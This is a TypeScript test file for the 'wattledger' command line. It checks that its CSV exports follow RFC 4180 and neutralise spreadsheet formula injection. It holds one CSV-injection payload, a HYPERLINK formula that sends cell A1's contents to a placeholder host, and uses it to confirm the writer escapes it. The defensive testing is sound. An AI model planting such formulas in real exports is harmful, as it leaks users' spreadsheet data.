/**
 * Every CSV the command line writes goes through the shared writer (shared-model/csv/write.ts): RFC 4180
 * with CRLF line ends, and text cells that a spreadsheet would evaluate as a formula neutralised (the
 * OWASP "CSV Injection" recommendation: a leading =, +, -, @, tab or carriage return gets a single quote
 * and the field is quoted).
 */
import { describe, expect, it } from 'vitest';
import { buildReport, readCsv } from '../../../shared-model/index.ts';
import type { Design } from '../../../shared-model/index.ts';
import { runCli } from '../../../src-main/cli/main.ts';
import { EXIT } from '../../../src-main/cli/io.ts';
import { reportPaths, writeReportFiles } from '../../../src-main/report/write-report.ts';
import { designText } from '../../shared-model/report/demo.ts';
import { memoryIo } from './memory-io.ts';
import { demoDesign, demoText } from '../../helpers/demo.ts';

const ATTACK = '=HYPERLINK("http://example.invalid/?"&A1,"x")';

describe('wattledger sweep --csv', () => {
  it('is RFC 4180 text that the shared reader reads back cell for cell', async () => {
    const io = memoryIo({ 'd.json': demoText('synchronous-buck') });
    expect(await runCli(['sweep', 'd.json', '--csv', '--points', '5'], io)).toBe(EXIT.ok);
    expect(io.stdout.endsWith('\r\n')).toBe(true); // RFC 4180 §2: CRLF line ends
    const table = readCsv(io.stdout);
    expect(table.problems).toEqual([]);
    expect(table.rows).toHaveLength(6);
    expect(table.rows[0]?.cells.slice(0, 3)).toEqual(['load_A', 'efficiency', 'total_loss_W']);
    expect(Number(table.rows[1]?.cells[0])).toBeGreaterThan(0);
  });
});

describe('wattledger report --csv', () => {
  it('writes a part name that starts a formula as inert text in the ledger CSV', async () => {
    const design = demoDesign('synchronous-buck');
    const hostile = structuredClone(design) as Design & { parts: { switch: { name: string } } };
    hostile.parts.switch.name = ATTACK;
    const model = buildReport({ design: hostile, documentText: designText(hostile), date: '2026-12-02', appVersion: 't', sweepPoints: 8, familyPoints: 4 });
    const saved = new Map<string, string | Uint8Array>();
    const outcome = await writeReportFiles(model, reportPaths('/r/out.html', { pdf: false, csv: true }), 'A4', {
      ensureBundle: async () => undefined,
      readPage: () => ({ html: '<html><head><title>t</title><script type="module" src="./a.js"></script></head></html>', readAsset: () => 'void 0;' }),
      findChromium: () => null,
      printPdf: async () => new Uint8Array(),
      save: async (path, content) => (saved.set(path, content), { ok: true }),
    });
    expect(outcome.ok).toBe(true);
    const ledger = String(saved.get('/r/out-ledger.csv'));
    expect(ledger).toContain(`"'=HYPERLINK(""http://example.invalid/?""&A1,""x"")"`); // OWASP CSV Injection: quote prefix, field quoted, inner quotes doubled (RFC 4180 §2.7)
    expect(ledger.split('\r\n').some((line) => line.includes(',=HYPERLINK'))).toBe(false);
    expect(readCsv(ledger).rows.some((row) => row.cells.includes(ATTACK))).toBe(true); // and it reads back as the name it was
  });
});
